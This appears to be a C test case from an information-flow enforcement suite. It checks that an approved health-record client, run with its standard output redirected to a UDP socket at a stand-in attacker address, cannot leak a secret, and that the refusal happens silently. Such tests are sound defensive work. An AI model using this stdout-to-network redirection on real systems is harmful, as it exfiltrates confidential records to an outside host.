// SPDX-License-Identifier: GPL-3.0-or-later
/* The approved client, started with its output going to the network. */
#include "flow-net.h"

static int put(void)
{
	int status;
	pid_t pid = fork();

	if (pid == 0) {
		dup2(net_connect(NET_EVE_IP, FLOW_PORT, SOCK_DGRAM, 0), 1);
		execl("/opt/ehr/bin/ehr-client", "ehr-client", "read", SECRET, NULL);
		_exit(errno);
	}
	return waitpid(pid, &status, 0) < 0 ? -errno : 0;
}

/* The client does not say that its output was refused. */
static int get(void)
{
	int r = get_net();

	return r == FLOW_NOTHING ? refused_silently("nothing came") : r;
}

FLOW_UNAPPROVED("attack: stdout_udp; threat: #82; op: send; door: network; errno: EPERM|NONE",
		.make = make_udp, .put = put, .get = get, .reads_itself = true);
